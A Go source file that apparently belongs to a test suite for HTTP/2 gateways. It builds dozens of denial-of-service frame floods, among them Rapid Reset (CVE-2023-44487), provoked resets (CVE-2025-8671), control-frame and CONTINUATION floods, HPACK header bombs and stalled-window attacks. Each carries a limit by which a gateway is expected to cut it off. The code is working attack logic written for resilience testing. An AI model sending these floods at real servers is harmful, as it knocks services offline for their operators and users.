package flood

import (
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attackTarget is what an attacker asks for.
const attackTarget = "/attack"

// Flood is a stream of frames that costs the sender nothing.
type Flood struct {
	Name string
	// Bound is the number of frames before which a gateway must have had enough.
	Bound int
	// Bears says that the frames may go on, if what they cost stays within bounds.
	Bears bool
	// Settings of the attacker.
	Settings []http2.Setting
	// Begin is written once, Each over and over.
	Begin func(*attacker) error
	Each  func(*attacker) error
}

// controlFrames is more than any client needs of what carries no data.
const controlFrames = 12_000

// Floods are all of them.
func Floods() []*Flood {
	var all []*Flood
	for _, floods := range [][]*Flood{resetFloods(), controlFloods(), streamFloods(), headerFloods()} {
		all = append(all, floods...)
	}
	return all
}

// each makes a flood whose frames need no stream, or one that is opened first.
func each(name string, write func(*attacker) error) *Flood {
	return &Flood{Name: name, Bound: controlFrames, Each: func(a *attacker) error { return a.wrote(write(a)) }}
}

func (f *Flood) begin(begin func(*attacker) error) *Flood {
	f.Begin = begin
	return f
}

// openPost opens a stream whose body does not end.
func openPost(a *attacker) error { return a.open(a.request("POST"), false) }

// resetFloods make the gateway begin work and give it up. The first is CVE-2023-44487, those in which
// the gateway itself resets the stream are CVE-2025-8671.
func resetFloods() []*Flood {
	reset := func(name string, open func(*attacker) error, provoke func(*attacker) error) *Flood {
		return each(name, func(a *attacker) error {
			if err := open(a); err != nil {
				return err
			}
			return provoke(a)
		})
	}
	openGet := func(a *attacker) error { return a.open(a.request("GET"), true) }
	return []*Flood{
		reset("rapid reset", openGet, func(a *attacker) error { return a.framer.WriteRSTStream(a.stream, http2.ErrCodeCancel) }),
		reset("rapid reset of open streams", openPost, func(a *attacker) error { return a.framer.WriteRSTStream(a.stream, http2.ErrCodeCancel) }),
		reset("made to reset by a window update of zero", openPost, func(a *attacker) error { return rawWindowUpdate(a, a.stream, 0) }),
		reset("made to reset by a window that is too large", openPost, func(a *attacker) error { return rawWindowUpdate(a, a.stream, 1<<31-1) }),
		reset("made to reset by data behind the end", openGet, func(a *attacker) error { return a.framer.WriteData(a.stream, true, []byte("x")) }),
		reset("made to reset by a head behind the end", openGet, func(a *attacker) error {
			return a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: a.stream, BlockFragment: a.request("GET"), EndStream: true, EndHeaders: true})
		}),
		reset("made to reset by a stream that depends on itself", openPost, func(a *attacker) error {
			return a.framer.WritePriority(a.stream, http2.PriorityParam{StreamDep: a.stream, Weight: 1})
		}),
		reset("made to reset by a length that is wrong", func(a *attacker) error {
			return a.open(a.request("POST", hpack.HeaderField{Name: "content-length", Value: "1"}), false)
		}, func(a *attacker) error { return a.framer.WriteData(a.stream, true, []byte("more")) }),
		each("made to reset by heads that are wrong", func(a *attacker) error {
			return a.open(a.request("GET", hpack.HeaderField{Name: "Upper-Case", Value: "1"}), true)
		}),
	}
}

// rawWindowUpdate writes increments that the framer would not.
func rawWindowUpdate(a *attacker, stream uint32, increment uint32) error {
	return a.framer.WriteRawFrame(http2.FrameWindowUpdate, 0, stream,
		[]byte{byte(increment >> 24), byte(increment >> 16), byte(increment >> 8), byte(increment)})
}

// controlFloods are frames that carry nothing.
func controlFloods() []*Flood {
	priority := func(a *attacker, stream uint32) error {
		return a.framer.WritePriority(stream, http2.PriorityParam{StreamDep: 0, Weight: uint8(a.frames)})
	}
	return []*Flood{
		each("PING", func(a *attacker) error { return a.framer.WritePing(false, [8]byte{byte(a.frames)}) }),
		each("acknowledged PINGs that were never sent", func(a *attacker) error { return a.framer.WritePing(true, [8]byte{}) }),
		each("empty SETTINGS", func(a *attacker) error { return a.framer.WriteSettings() }),
		each("SETTINGS with sixty entries", func(a *attacker) error {
			var settings []http2.Setting
			for i := range uint32(60) {
				settings = append(settings, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535 + i})
			}
			return a.framer.WriteSettings(settings...)
		}),
		each("SETTINGS that change the header table", func(a *attacker) error {
			return a.framer.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: uint32(a.frames%2) * 4096})
		}),
		each("SETTINGS that change the windows of open streams", func(a *attacker) error {
			return a.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(a.frames%2) * 65535})
		}).begin(func(a *attacker) error {
			for range 90 {
				if err := openPost(a); err != nil {
					return err
				}
			}
			return nil
		}),
		each("PRIORITY of one stream", func(a *attacker) error { return priority(a, 1) }),
		each("PRIORITY of streams that nobody opens", func(a *attacker) error { return priority(a, uint32(a.frames)*2+101) }),
		each("WINDOW_UPDATE of the connection", func(a *attacker) error { return rawWindowUpdate(a, 0, 1) }),
		each("WINDOW_UPDATE of a stream", func(a *attacker) error { return rawWindowUpdate(a, 1, 1) }).begin(openPost),
		each("frames of an unknown type", func(a *attacker) error { return a.framer.WriteRawFrame(0x42, 0, 0, []byte("unknown")) }),
		each("frames of an unknown type on a stream", func(a *attacker) error { return a.framer.WriteRawFrame(0x42, 0, 1, nil) }).begin(openPost),
		each("resets of streams that have ended", func(a *attacker) error { return a.framer.WriteRSTStream(1, http2.ErrCodeCancel) }).
			begin(func(a *attacker) error { return a.open(a.request("GET"), true) }),
	}
}

// streamFloods are data that move nothing, and heads that never end.
func streamFloods() []*Flood {
	continuation := func(name string, size int) *Flood {
		return each(name, func(a *attacker) error { return a.framer.WriteContinuation(1, false, literal(size)) }).
			begin(func(a *attacker) error {
				a.next()
				return a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: a.stream, BlockFragment: a.request("GET")})
			})
	}
	return []*Flood{
		each("empty DATA", func(a *attacker) error { return a.framer.WriteData(1, false, nil) }).begin(openPost),
		each("DATA of padding alone", func(a *attacker) error { return a.framer.WriteDataPadded(1, false, nil, make([]byte, 2)) }).begin(openPost),
		each("empty DATA on many streams", func(a *attacker) error {
			return a.framer.WriteData(uint32(a.frames%50)*2+1, false, nil)
		}).begin(func(a *attacker) error {
			for range 50 {
				if err := openPost(a); err != nil {
					return err
				}
			}
			return nil
		}),
		continuation("empty CONTINUATION", 0),
		continuation("CONTINUATION of small fields", 16),
		continuation("CONTINUATION of large fields", 16000),
	}
}

// literal is a field that is not put into the table, of about that size.
func literal(size int) []byte {
	if size == 0 {
		return nil
	}
	block := []byte{0, 1, 'x'}
	block = hpackLength(block, size)
	return append(block, strings.Repeat("a", size)...)
}

// hpackLength appends a string's length without Huffman coding (RFC 7541 section 5.1).
func hpackLength(block []byte, length int) []byte {
	if length < 127 {
		return append(block, byte(length))
	}
	block = append(block, 127)
	for length -= 127; length >= 128; length >>= 7 {
		block = append(block, byte(length)|128)
	}
	return append(block, byte(length))
}

// headerFloods are heads that grow when they are decoded, and streams that take everything and give
// nothing: those may go on, within bounds of memory.
func headerFloods() []*Flood {
	bomb := &Flood{
		Name: "a header bomb", Bound: 2_000, Bears: true,
		// The field is the newest in the table, and all of the request's fit beside it.
		Begin: func(a *attacker) error {
			return a.open(a.request("GET", hpack.HeaderField{Name: "x", Value: strings.Repeat("a", 3500)}), true)
		},
		// Each byte stands for that field.
		Each: func(a *attacker) error {
			return a.open(append(a.request("GET"), []byte(strings.Repeat("\xbe", 15_000))...), true)
		},
	}
	crumbs := &Flood{
		Name: "a bomb of cookie crumbs", Bound: 2_000, Bears: true,
		Begin: func(a *attacker) error {
			return a.open(a.request("GET", hpack.HeaderField{Name: "cookie", Value: strings.Repeat("a", 3500)}), true)
		},
		Each: func(a *attacker) error {
			return a.open(append(a.request("GET"), []byte(strings.Repeat("\xbe", 15_000))...), true)
		},
	}
	many := &Flood{
		Name: "more streams than allowed", Bound: 5_000, Bears: true,
		Each: openPost,
	}
	stalled := &Flood{
		Name: "answers that nobody reads", Bound: 400, Bears: true,
		Settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}},
		Each:     func(a *attacker) error { return a.open(a.largeRequest(), true) },
	}
	return []*Flood{bomb, crumbs, many, stalled}
}

// largeTarget has an answer of largeAnswer bytes.
const (
	largeTarget = "/large"
	largeAnswer = 1 << 20
)

func (a *attacker) largeRequest() []byte {
	a.block.Reset()
	for _, field := range []hpack.HeaderField{
		{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "http"}, {Name: ":authority", Value: "hostile.test"}, {Name: ":path", Value: largeTarget},
	} {
		_ = a.encoder.WriteField(field)
	}
	return a.block.Bytes()
}
